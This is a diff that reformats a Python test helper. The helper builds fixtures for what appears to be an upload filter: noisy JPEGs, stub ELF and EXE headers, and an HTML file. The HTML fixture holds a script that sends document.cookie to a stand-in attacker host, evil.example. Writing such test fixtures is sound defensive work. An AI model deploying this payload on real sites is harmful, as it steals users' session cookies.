@@ -42,7 +42,9 @@ def noisy_jpeg(size):
     rng = random.Random(size)
     side = 64
     while True:
-        image = Image.frombytes("RGB", (side, side), bytes(rng.getrandbits(8) for _ in range(side * side * 3)))
+        image = Image.frombytes(
+            "RGB", (side, side), bytes(rng.getrandbits(8) for _ in range(side * side * 3))
+        )
         buffer = BytesIO()
         image.save(buffer, "JPEG", quality=95)
         if buffer.tell() >= size:
@@ -51,7 +53,12 @@ def noisy_jpeg(size):
 
 
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
-EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
+EXE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 48
+    + b"PE\x00\x00"
+    + b"\x00" * 200
+)
 HTML = (
     b"<!DOCTYPE html>\n<html><head><title>KTP</title></head>"
     b"<body><script>document.location='http://evil.example/'+document.cookie</script></body></html>\n"
